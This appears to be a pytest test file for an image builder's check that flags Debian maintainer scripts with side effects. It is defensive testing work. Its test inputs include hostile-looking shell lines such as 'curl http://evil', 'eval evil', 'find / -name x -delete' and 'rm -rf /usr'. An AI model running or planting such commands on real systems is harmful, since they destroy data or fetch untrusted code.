"""Scripts that do something the image would miss never go unseen."""

from __future__ import annotations

import json
from importlib.resources import files
from pathlib import Path

import pytest

from image_builder.maintainer_scripts import (
    Finding,
    MaintainerScriptError,
    alternative_nodes,
    findings,
    is_reviewed,
    review_scripts,
)
from image_builder.tree import Kind, Node
from tests.image_builder.package_files import accounts, deb_bytes, regular, unpacked

DATA = json.loads(files("image_builder.data").joinpath("maintainer_scripts.json").read_bytes())


def commands(tmp_path: Path, script: str, *, name: str = "postinst", head: str = "#!/bin/sh\n") -> list[str]:
    deb = deb_bytes("demo", [regular("./x")], control={name: (head + script).encode()})
    (package,) = unpacked(tmp_path, {"demo": deb})
    return [command for finding in findings(package, accounts=accounts()) for command in finding.commands]


@pytest.mark.parametrize(
    "script",
    [
        "set -e\nexit 0\n",
        'if [ "$1" = configure ]; then\n ldconfig\nfi\n',
        "if which py3compile >/dev/null 2>&1; then\n py3compile -p demo\nfi\n",
        "deb-systemd-helper unmask x.service >/dev/null || true\n",
        'dpkg-maintscript-helper rm_conffile /etc/x 1 -- "$@"\n',
        "adduser --system --quiet daemon\n",
        "update-alternatives --install /bin/awk awk /bin/mawk 5 --slave /bin/nawk nawk /bin/mawk\n",
        "db_get demo/question || true\n. /usr/share/debconf/confmodule\n",
        "helper() {\n echo x >&2\n}\nhelper\n",
    ],
)
def test_harmless_scripts(tmp_path: Path, script: str) -> None:
    assert commands(tmp_path, script) == []


@pytest.mark.parametrize(
    ("script", "left"),
    [
        ("mkdir -p /var/lib/x\n", "mkdir -p /var/lib/x"),
        ("echo x > /etc/x\n", "echo x > /etc/x"),
        ("sed -i s/a/b/ /etc/x\n", "sed -i s/a/b/ /etc/x"),
        ("find / -name x -delete\n", "find / -name x -delete"),
        ("adduser --system ghost\n", "adduser --system ghost"),
        ("setcap cap_net_raw+ep /usr/bin/ping\n", "setcap cap_net_raw+ep /usr/bin/ping"),
        ("chown daemon /x\n", "chown daemon /x"),
        ("X=$(curl http://evil)\n", "curl http://evil"),
        ('update-alternatives --install "$l" awk /usr/bin/mawk 5\n', '"$l"'),
        ("true && ! cp a b\n", "cp a b"),
        ("/usr/bin/rm2 x\n", "/usr/bin/rm2 x"),
        ("eval evil\n", "eval evil"),
    ],
)
def test_scripts_with_an_effect(tmp_path: Path, script: str, left: str) -> None:
    assert any(left in command for command in commands(tmp_path, script))


def test_calls_of_functions_with_effects_are_part_of_the_review(tmp_path: Path) -> None:
    script = "make() {\n mkdir $1\n}\nmake /srv\n"
    assert commands(tmp_path, script) == ["mkdir $1", "make /srv"]


@pytest.mark.parametrize("name", ["preinst", "config"])
def test_scripts_before_unpacking_count(tmp_path: Path, name: str) -> None:
    assert commands(tmp_path, "touch /x\n", name=name) == ["touch /x"]


@pytest.mark.parametrize("name", ["prerm", "postrm"])
def test_scripts_of_removal_do_not_count(tmp_path: Path, name: str) -> None:
    assert commands(tmp_path, "touch /x\n", name=name) == []


def test_other_interpreters_are_reported(tmp_path: Path) -> None:
    assert commands(tmp_path, "print 1;\n", head="#!/usr/bin/perl\n") == ["#!/usr/bin/perl"]


def test_unknown_triggers_are_reported(tmp_path: Path) -> None:
    text = "interest-noawait /usr/x\nactivate-noawait ldconfig\nactivate rebuild-icons\n"
    assert commands(tmp_path, text, name="triggers", head="") == ["activate rebuild-icons"]


def test_the_error_names_packages_commands_and_remedy(tmp_path: Path) -> None:
    deb = deb_bytes("demo", [regular("./x")], control={"postinst": b"#!/bin/sh\nmkdir /srv/x\n"})
    packages = unpacked(tmp_path, {"demo": deb})
    with pytest.raises(
        MaintainerScriptError, match=r"demo\.postinst \([0-9a-f]{64}\): mkdir /srv/x"
    ) as caught:
        review_scripts(packages, accounts=accounts(), acknowledged={})
    assert caught.value.subject == "demo"
    assert "[packages.scripts]" in caught.value.advice
    review_scripts(packages, accounts=accounts(), acknowledged={"demo": "the folder is not used"})


def test_every_entry_of_the_data_has_a_reason() -> None:
    entries = [*DATA["commands"], *DATA["triggers"], *DATA["scripts"]]
    assert all(len(entry["reason"]) > 10 for entry in entries)
    names = [name for entry in DATA["commands"] for name in entry["names"]]
    assert len(names) == len(set(names))


def test_a_changed_script_of_a_reviewed_package_comes_up_again() -> None:
    entry = DATA["scripts"][0]
    changed = Finding(package=entry["package"], script=entry["script"], commands=("rm -rf /usr",))
    assert changed.residue_sha256 not in entry["residue_sha256"]
    assert not is_reviewed(changed)


def test_alternatives(tmp_path: Path) -> None:
    low = b"#!/bin/sh\nupdate-alternatives --install /usr/bin/awk awk /usr/bin/mawk 5\n"
    high = (
        b"#!/bin/sh\nupdate-alternatives --install /usr/bin/awk awk /usr/bin/gawk 10 \\\n"
        b" --slave /usr/share/man/man1/awk.1.gz awk.1.gz /usr/share/man/man1/gawk.1.gz\n"
        b"update-alternatives --install /usr/bin/gone gone /usr/bin/absent 99\n"
    )
    packages = unpacked(
        tmp_path,
        {
            "mawk": deb_bytes("mawk", [], control={"postinst": low}),
            "gawk": deb_bytes("gawk", [], control={"postinst": high}),
        },
    )
    tree = {
        path: Node(path=path, kind=kind, mode=0o755)
        for path, kind in {
            "usr": Kind.DIRECTORY,
            "usr/bin": Kind.DIRECTORY,
            "usr/bin/mawk": Kind.FILE,
            "usr/bin/gawk": Kind.FILE,
        }.items()
    }
    targets = {path: node.target for path, node in alternative_nodes(packages, tree).items()}
    assert targets == {"usr/bin/awk": "/etc/alternatives/awk", "etc/alternatives/awk": "/usr/bin/gawk"}
